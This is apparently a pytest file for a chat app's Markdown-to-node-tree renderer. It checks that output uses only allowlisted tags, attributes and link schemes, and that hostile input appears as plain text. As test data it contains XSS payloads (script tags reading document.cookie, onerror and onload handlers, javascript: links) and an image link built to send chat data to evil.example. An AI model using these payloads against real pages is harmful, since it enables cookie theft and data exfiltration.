"""The live channel's node tree (core/live_tree.py): inert by construction, and
ordinary Markdown drawn as the page's Markdown would draw it.

The allowlist is written out here again, from the protocol, rather than taken
from the module: a tag or attribute the module started to allow would
otherwise pass unseen.
"""

import json
import random
import re
from urllib.parse import urlsplit

import pytest

from core.live_tree import block_nodes
from core.markdown import MAX_MARKDOWN_CHARS
from core.streaming import close_open_markup, split_settled
from tests.hostile import HOSTILE, fetching_payloads
from tests.test_markdown_safety import FRAGMENTS

PLAIN_TAGS = [
    "p", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "li", "hr", "br", "pre",
    "em", "strong", "del", "table", "thead", "tbody", "tr",
]  # fmt: skip
ALLOWED = {
    **dict.fromkeys(PLAIN_TAGS, frozenset()),
    "ol": {"start"},
    "code": {"data-lang"},
    "a": {"href"},
    "th": {"align"},
    "td": {"align"},
    "span": {"class"},
}
VALUES = {
    "start": re.compile(r"\d{1,9}"),
    "align": re.compile(r"left|center|right"),
    "class": re.compile(r"math"),
    "data-lang": re.compile(r"[A-Za-z0-9_+#.-]{1,40}"),
}


def problems(nodes, path="") -> list[str]:
    """Everything in a tree that the protocol does not allow."""
    found = []
    for index, node in enumerate(nodes):
        where = f"{path}/{index}"
        if isinstance(node, str):
            continue
        if not isinstance(node, list) or len(node) < 2 or not isinstance(node[1], dict):
            found.append(f"{where}: not a node: {node!r:.60}")
            continue
        tag, attrs = node[0], node[1]
        if tag not in ALLOWED:
            found.append(f"{where}: tag {tag!r}")
        for name, value in attrs.items():
            if name not in ALLOWED.get(tag, set()):
                found.append(f"{where}: {tag} [{name}]")
            elif name == "href":
                if urlsplit(value).scheme.lower() not in ("http", "https", "mailto"):
                    found.append(f"{where}: href {value!r:.60}")
            elif not isinstance(value, str) or not VALUES[name].fullmatch(value):
                found.append(f"{where}: {tag} [{name}={value!r:.40}]")
        found += problems(node[2:], where)
    return found


def shown(nodes) -> str:
    """What a reader can see: the text, and where each link goes."""
    out = []
    for node in nodes:
        if isinstance(node, str):
            out.append(node)
        else:
            out.append(node[1].get("href", ""))
            out.append(shown(node[2:]))
    return "".join(out)


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_makes_only_allowed_nodes(name):
    tree = block_nodes(HOSTILE[name])
    assert problems(tree) == []
    json.dumps(tree)  # what the route sends: plain JSON


@pytest.mark.parametrize(
    ("source", "visible"),
    [
        (
            "<script>alert(document.cookie)</script> hello",
            "<script>alert(document.cookie)</script>",
        ),
        ('<img src=x onerror="alert(1)">', '<img src=x onerror="alert(1)">'),
        ("<svg/onload=alert(1)>", "<svg/onload=alert(1)>"),
        ("[click me](javascript:alert(1))", "click me (javascript:alert(1))"),
        ("[click](&#106;avascript:alert(1))", "click (javascript:alert(1))"),
        ("[click][x]\n\n[x]: javascript:alert(1)", "click (javascript:alert(1))"),
        ("<javascript:alert(1)>", "javascript:alert(1)"),
        ("a &amp; b &#33; &lt;i&gt;", "a & b ! <i>"),
        ("![pixel](https://evil.example/collect?chat=secret)", "🖼 pixel (evil.example)"),
        ("![p][r]\n\n[r]: data:image/png;base64,iVBO", "p (data:image/png;base64,iVBO)"),
        (r"$\href{javascript:alert(1)}{click}$", r"\href{javascript:alert(1)}{click}"),
        ("<div>\n<img src=https://e/x.png>\n</div>", "<img src=https://e/x.png>"),
        ("before\x00after", "before\ufffdafter"),
        ("family 👨‍👩‍👧‍👦 user\u202egpj.exe", "family 👨‍👩‍👧‍👦 user\u202egpj.exe"),
    ],
)
def test_hostile_text_is_shown_as_the_user_wrote_it(source, visible):
    tree = block_nodes(source)
    assert problems(tree) == []
    assert visible in shown(tree)


def test_only_a_safe_image_becomes_a_link_and_never_an_image():
    safe = block_nodes("![cat](https://x.org/cat.png)")
    assert safe == [["p", {}, ["a", {"href": "https://x.org/cat.png"}, "🖼 cat"], " (x.org)"]]
    assert block_nodes("![cat](/local.png)") == [["p", {}, "cat (/local.png)"]]


@pytest.mark.parametrize("name", fetching_payloads("https://evil.example"))
def test_every_streamed_block_and_tail_makes_only_allowed_nodes(name):
    """The route sends each settled block and the closed tail on their own
    (core/streaming.py); however the text is cut, each tree is inert."""
    text = fetching_payloads("https://evil.example")[name] * 3
    for end in range(1, len(text) + 1, 7):
        split = split_settled(text[:end], tail_limit=40)
        for part in [*split.settled, close_open_markup(split.tail)]:
            assert problems(block_nodes(part)) == [], part


@pytest.mark.parametrize("seed", range(3))
def test_random_mixtures_of_syntax_make_only_allowed_nodes(seed):
    rng = random.Random(seed)
    for _ in range(1_000):
        text = "".join(rng.choice(FRAGMENTS) for _ in range(rng.randint(1, 30)))
        assert problems(block_nodes(text)) == [], text


def test_an_ordinary_answer_draws_its_structure():
    answer = (
        "# Title\n\nSome **bold**, *em*, ~~gone~~ and `code`.\n\n"
        "## Steps\n\n- one\n- two\n  - nested\n  - list\n\n3. three\n4. four\n\n> quoted\n\n---\n\n"
        "line  \nbreak\nsoft"
    )
    assert block_nodes(answer) == [
        ["h1", {}, "Title"],
        [
            "p",
            {},
            "Some ",
            ["strong", {}, "bold"],
            ", ",
            ["em", {}, "em"],
            ", ",
            ["del", {}, "gone"],
            " and ",
            ["code", {}, "code"],
            ".",
        ],
        ["h2", {}, "Steps"],
        [
            "ul",
            {},
            ["li", {}, "one"],
            ["li", {}, "two", ["ul", {}, ["li", {}, "nested"], ["li", {}, "list"]]],
        ],
        ["ol", {"start": "3"}, ["li", {}, "three"], ["li", {}, "four"]],
        ["blockquote", {}, ["p", {}, "quoted"]],
        ["hr", {}],
        ["p", {}, "line", ["br", {}], "break\nsoft"],
    ]


def test_a_loose_list_keeps_its_paragraphs_and_code():
    assert block_nodes("1. step\n\n   ```sh\n   ls -l\n   ```\n2. next") == [
        [
            "ol",
            {},
            ["li", {}, ["p", {}, "step"], ["pre", {}, ["code", {"data-lang": "sh"}, "ls -l"]]],
            ["li", {}, ["p", {}, "next"]],
        ]
    ]


def test_a_table_keeps_its_alignment_and_math():
    table = "| a | b | c |\n|:-|:-:|--|\n| 1 | $x^2$ | [l](https://a.org/) |"
    assert block_nodes(table) == [
        [
            "table",
            {},
            [
                "thead",
                {},
                [
                    "tr",
                    {},
                    ["th", {"align": "left"}, "a"],
                    ["th", {"align": "center"}, "b"],
                    ["th", {}, "c"],
                ],
            ],
            [
                "tbody",
                {},
                [
                    "tr",
                    {},
                    ["td", {"align": "left"}, "1"],
                    ["td", {"align": "center"}, ["span", {"class": "math"}, "x^2"]],
                    ["td", {}, ["a", {"href": "https://a.org/"}, "l"], " (a.org)"],
                ],
            ],
        ]
    ]


def test_code_and_math_blocks_keep_their_text():
    assert block_nodes("```python {linenos}\nx = '```'\n<b>\n```") == [
        ["pre", {}, ["code", {"data-lang": "python"}, "x = '```'\n<b>"]]
    ]
    assert block_nodes("    indented\n    code") == [["pre", {}, ["code", {}, "indented\ncode"]]]
    assert block_nodes("$$\n\\int_0^1 f\n$$") == [
        ["pre", {}, ["span", {"class": "math"}, "\\int_0^1 f"]]
    ]
    # TeX that could fetch is code, as the page's Markdown shows it.
    assert block_nodes("$$\n\\url{https://e}\n$$") == [
        ["pre", {}, ["code", {"data-lang": "latex"}, "\\url{https://e}"]]
    ]


def test_a_paragraph_piece_keeps_the_space_before_its_continuation():
    """A long paragraph settles in pieces that are shown inline, one after the
    other (joins); the space between two sentences must survive the cut."""
    sentence = "A sentence that is long enough to be cut once it ends here. "
    split = split_settled(sentence * 4 + "Next")
    assert split.open_ended
    first = block_nodes(split.settled[0])
    assert first[0][0] == "p" and first[0][-1].endswith("here. ")


def test_text_over_the_render_budget_is_one_code_block():
    heavy = "*a " * 4_000
    assert block_nodes(heavy) == [["pre", {}, ["code", {}, heavy]]]
    huge = "x" * (MAX_MARKDOWN_CHARS + 1)
    assert block_nodes(huge) == [["pre", {}, ["code", {}, huge]]]


def test_the_tree_is_compact():
    """No empty attribute and no empty text node is sent."""
    text = json.dumps(block_nodes("a *b* `c`\n\n1. x\n\n```\ny\n```"), separators=(",", ":"))
    assert '""' not in text and ':""' not in text
    assert block_nodes("") == [] and block_nodes("\n\n") == []
